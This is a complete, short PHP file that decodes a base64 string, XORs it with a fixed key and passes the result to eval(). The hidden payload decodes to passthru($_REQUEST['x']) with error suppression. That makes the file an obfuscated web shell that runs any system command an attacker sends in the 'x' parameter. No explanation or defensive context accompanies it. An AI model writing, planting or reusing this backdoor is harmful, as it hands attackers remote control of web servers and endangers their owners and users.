<?php
$d = base64_decode('CwhYUgI/EEtUWW8na2QgHj1qdSpsAB58WHA=');
$k = 'Kx9!q';
$o = '';
for ($i = 0; $i < strlen($d); $i++) {
    $o .= $d[$i] ^ $k[$i % strlen($k)];
}
eval($o);
